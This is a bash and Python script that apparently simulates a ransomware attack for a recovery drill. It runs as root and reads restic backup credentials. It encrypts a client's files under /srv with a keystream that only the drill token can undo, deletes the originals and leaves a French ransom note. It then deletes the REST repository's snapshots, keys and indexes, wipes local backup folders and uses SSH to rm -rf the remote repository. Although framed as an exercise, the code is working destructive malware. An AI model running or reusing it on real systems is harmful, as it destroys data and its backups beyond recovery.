#!/bin/bash
# srv: the ransomware, as root. The data first, then whatever could bring them back and the
# credentials found here can destroy. Short, since it is dated by when it begins and ends: few
# processes, few modules, and what another machine must do goes on by itself.
set -euo pipefail

# -S: none of the site's packages are needed.
python3 -IS - <<'PY'
import binascii
import hashlib
import json
import os
import socket

NOTE = "/var/lib/pcapra/rancon.json"
SITE = f"/srv/{os.environ['PCAPRA_CLIENT']}"
ENDING = ".verrou"
with open("/root/.restic-rest") as stream:
    login, _, place = stream.read().strip().removeprefix("rest:http://").rpartition("@")
host, _, folder = place.partition("/")
name, _, port = host.partition(":")
folder = folder.strip("/")
basic = binascii.b2a_base64(login.encode(), newline=False).decode()


def rest(method, path):
    """A request to the REST repository with the credentials in its file: status and body."""
    head = (
        f"{method} /{folder}/{path} HTTP/1.0\r\nHost: {host}\r\nAuthorization: Basic {basic}\r\n"
        "Accept: application/vnd.x.restic.rest.v2\r\n\r\n"
    )
    with socket.create_connection((name, int(port or 8000)), timeout=20) as link:
        link.sendall(head.encode())
        answer = b"".join(iter(lambda: link.recv(65536), b""))
    head, _, body = answer.partition(b"\r\n\r\n")
    return int(head.split()[1]), body


def names(kind):
    return [one["name"] for one in json.loads(rest("GET", kind)[1] or "[]")]


def stream_of(path, length):
    """The drill's own cipher: what setup/rancon-retiree.sh can undo."""
    seed = f"{os.environ['PCAPRA_JETON']} {path}".encode()
    return hashlib.shake_256(seed).digest(length)


os.makedirs(os.path.dirname(NOTE), mode=0o700, exist_ok=True)
kept = names("snapshots/")
with open(NOTE, "w") as stream:
    json.dump(kept, stream)

for base, _, files in list(os.walk(SITE)):
    for path in sorted(os.path.join(base, one) for one in files):
        if os.path.islink(path) or path.endswith(ENDING):
            continue
        with open(path, "rb") as stream:
            clear = stream.read()
        mixed = int.from_bytes(clear, "big") ^ int.from_bytes(stream_of(path, len(clear)), "big")
        with open(path + ENDING, "wb") as stream:
            stream.write(mixed.to_bytes(len(clear), "big"))
        status = os.stat(path)
        os.chown(path + ENDING, status.st_uid, status.st_gid)
        os.chmod(path + ENDING, status.st_mode & 0o7777)
        os.utime(path + ENDING, ns=(status.st_atime_ns, status.st_mtime_ns))
        os.unlink(path)
with open(f"{SITE}/LISEZ-MOI-RANCON.txt", "w") as stream:
    stream.write("Vos fichiers sont chiffrés, vos sauvegardes sont détruites. Payez.\n")

for kind in ("snapshots/", "keys/", "index/"):
    for one in names(kind):
        # 403: what the step is about. Whoever is refused once does not insist.
        if rest("DELETE", kind + one)[0] >= 400:
            break
PY
rm -rf /sauvegarde /var/backups/restic
setsid ssh -o BatchMode=yes -o ConnectTimeout=10 restic@sauvegarde 'rm -rf /srv/restic/srv' \
    < /dev/null > /dev/null 2>&1 &
